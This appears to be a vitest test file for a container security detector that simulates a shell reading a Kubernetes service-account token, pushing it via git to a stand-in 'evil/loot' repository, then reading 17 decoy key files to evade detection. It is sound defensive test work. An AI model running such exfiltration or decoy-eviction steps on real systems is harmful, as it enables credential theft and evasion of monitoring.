/**
 * The sensitive files a container read are a bounded list (caps.maxSensitivePerContainer, 16). Reads of
 * files named like secrets after a push's settle time, while it waits for its lateness, count for no
 * pending push: they must not push out of the list the secret that push's rule rests on.
 */
import { describe, expect, it } from 'vitest';
import { brief, MiB, run, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

function scenario(source: 'tetragon' | 'falco', bulk: boolean) {
  const s = new Scenario({ source });
  const c = s.container({ pod: 'api' });
  const app = s.init(c, '/app/server', '--listen :8080');
  const bash = s.exec(c, '/bin/bash', '-i', { parent: app });
  s.read(bash, TOKEN, 900);
  if (bulk) s.readMany(bash, '/srv/db', 70, MiB, 10);
  s.wait(1_000);
  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: bash });
  s.connect(git, GITHUB_IP, 443).send(git, GITHUB_IP, 443, 4096);
  // After the push's settle time (10 s), before its judgement (40 s): 17 files named like keys, by another
  // process (`for i in $(seq 17); do : >/tmp/k/$i.key; cat /tmp/k/$i.key; done`).
  s.wait(12_000);
  for (let i = 0; i < 17; i++) {
    const cat = s.exec(c, '/bin/cat', `/tmp/k/${i}.key`, { parent: bash });
    s.read(cat, `/tmp/k/${i}.key`, 0).wait(10);
  }
  return s;
}

describe('decoy sensitive reads after a push do not evict the secret read before it', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`${source}: a token read, git push, then 17 decoy key files: still sensitive-read-then-push`, () => {
      const { alerts } = run(scenario(source, false).events);
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
      ]);
      expect(alerts[0]!.reads.sensitive).toEqual([TOKEN]);
    });

    it(`${source}: a token and 70 MiB read, git push, then 17 decoy key files: still critical`, () => {
      const { alerts } = run(scenario(source, true).events);
      expect(brief(alerts)).toEqual([
        { rule: 'bulk-read-then-push', severity: 'critical', tool: 'git', destination: 'github.com' },
      ]);
    });
  }
});
